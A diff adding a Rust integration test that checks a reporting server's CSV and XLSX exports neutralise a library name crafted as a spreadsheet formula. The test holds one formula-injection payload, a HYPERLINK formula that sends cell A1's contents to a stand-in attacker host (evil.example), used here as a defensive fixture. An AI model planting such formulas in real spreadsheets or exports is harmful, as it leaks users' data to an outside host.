@@ -626,3 +626,54 @@ async fn the_csv_of_a_table_holds_the_json_rows() {
         }
     }
 }
+
+/// A library whose name is a spreadsheet formula comes out as plain text: in CSV with a
+/// `'` in front (OWASP's rule), in XLSX as a text cell, never a formula.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_library_named_like_a_formula_stays_text_in_csv_and_xlsx() {
+    const EVIL: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+    let d = district().await;
+    d.server
+        .store
+        .add_library(
+            &LibraryCode::parse("jahat").unwrap(),
+            EVIL,
+            jejak_domain::Zone::Wib,
+        )
+        .await
+        .unwrap();
+    let csv = get(
+        &d.server,
+        Some(&d.staff),
+        "district?month=2026-10&format=csv&table=libraries",
+    )
+    .await;
+    assert_eq!(csv.status, 200, "{}", csv.text());
+    let records = parse_csv(&csv.text());
+    let names: Vec<&str> = records.iter().map(|r| r[0].as_str()).collect();
+    assert!(names.contains(&format!("'{EVIL}").as_str()), "{names:?}");
+    assert!(!names.iter().any(|n| n.starts_with('=')), "{names:?}");
+
+    let xlsx = get(
+        &d.server,
+        Some(&d.staff),
+        "district?month=2026-10&format=xlsx",
+    )
+    .await;
+    assert_eq!(xlsx.status, 200);
+    let mut book: calamine::Xlsx<_> =
+        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.body)).unwrap();
+    let found = book.worksheets().into_iter().any(|(_, sheet)| {
+        sheet
+            .used_cells()
+            .any(|(_, _, cell)| matches!(cell, Data::String(s) if s == EVIL))
+    });
+    assert!(found, "the name is a text cell, exactly as given");
+    for (name, _) in book.worksheets() {
+        let formulas = book.worksheet_formula(&name).unwrap();
+        assert!(
+            formulas.used_cells().next().is_none(),
+            "no formula in {name}"
+        );
+    }
+}
